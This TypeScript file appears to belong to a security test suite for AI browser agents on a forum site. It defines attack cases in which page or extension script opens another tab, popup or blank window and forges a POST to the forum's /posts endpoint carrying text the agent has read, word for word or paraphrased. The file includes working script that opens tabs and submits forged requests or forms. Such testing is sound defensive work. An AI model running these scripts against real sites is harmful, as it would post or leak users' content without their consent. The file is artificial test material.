/** Attacks from another tab than the one in which the agent was seen and has read. */
import { pause } from '../../browser/harness/until.ts';
import { FORUM } from '../../browser/stage.ts';
import type { Attack, Desk } from './attack.ts';
import { PARAPHRASE, TARGET, TARGET_TOPIC } from './scene.ts';

const POST = `const body = new URLSearchParams({ raw: text, topic_id: '${TARGET_TOPIC}' }); const kind = { 'content-type': 'application/x-www-form-urlencoded; charset=UTF-8' };
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const from = (page) => Promise.race([page.fetch(location.origin + '/posts', { method: 'POST', headers: kind, body: String(body) }).then(() => 'sent', (error) => 'refused ' + error), wait(600)]);
const opened = async (url, name, look) => { const page = window.open(url, name, look); if (!page) return null; for (let i = 0; i < 30 && (page.location.href === 'about:blank' || page.document.readyState !== 'complete'); i++) await wait(100); return page; };`;

/** What the opener does with a tab of its own making. */
const BY_SCRIPT: Readonly<Record<string, string>> = {
  'a tab that the page opens, by its fetch': `const page = await opened('${TARGET}', '_blank'); return page ? from(page) : 'no tab';`,
  'a tab that the page opens, by its form': `const page = await opened('${TARGET}', '_blank'); if (!page) return 'no tab'; const form = page.document.createElement('form'); form.method = 'POST'; form.action = '/posts'; for (const [name, value] of body) { const field = page.document.createElement('textarea'); field.name = name; field.value = value; form.append(field); } page.document.body.append(form); form.submit(); await wait(600); return 'sent';`,
  'a tab that the page opens, before it has loaded': `const page = window.open('${TARGET}', '_blank'); return page ? from(page) : 'no tab';`,
  'a window that the page opens': `const page = await opened('${TARGET}', '_blank', 'popup,width=500,height=400'); return page ? from(page) : 'no tab';`,
  'a blank tab that the page opens': `const page = window.open('', '_blank'); if (!page) return 'no tab'; return Promise.race([page.fetch(location.origin + '/posts', { method: 'POST', headers: kind, body: String(body) }).then(() => 'sent', (error) => 'refused ' + error), wait(600)]);`,
  'a tab opened by a tab that the page opened': `const page = await opened('${TARGET}', '_blank'); if (!page) return 'no tab'; const next = page.open('/t/lunch-on-thursday/102', '_blank'); if (!next) return from(page); await wait(1200); return from(next);`,
};

export const TAB_ATTACKS: readonly Attack[] = [
  ...Object.entries(BY_SCRIPT).flatMap(([name, code]) => [
    inTab(`${name}, word for word`, code, (at) => at.text),
    inTab(`${name}, in other words`, code, () => PARAPHRASE),
  ]),
  {
    name: 'forum: a second tab of the extension’s, word for word',
    site: 'forum',
    agents: ['content-script extension', 'debugger extension'],
    leaves: 'the page',
    async run({ hand, text }) {
      if (hand === null) return 'no extension';
      const tab = await hand.hand.do<number>('open', { url: `${FORUM}${TARGET}`, tab: hand.tab });
      await pause(1_500);
      return hand.hand.content(tab, `const text = ${JSON.stringify(text)};\n${POST}\nreturn from(window);`);
    },
  },
  {
    name: 'forum: a second tab of the extension’s, in other words',
    site: 'forum',
    agents: ['content-script extension', 'debugger extension'],
    leaves: 'the page',
    async run({ hand }) {
      if (hand === null) return 'no extension';
      const tab = await hand.hand.do<number>('open', { url: `${FORUM}${TARGET}`, tab: hand.tab });
      await pause(1_500);
      return hand.hand.content(tab, `const text = ${JSON.stringify(PARAPHRASE)};\n${POST}\nreturn from(window);`);
    },
  },
];

function inTab(name: string, code: string, textOf: (at: Desk) => string): Attack {
  return {
    name: `forum: ${name}`,
    site: 'forum',
    leaves: 'the page',
    run: (at) => at.agent.run(`const text = ${JSON.stringify(textOf(at))};\n${POST}\n${code}`),
  };
}
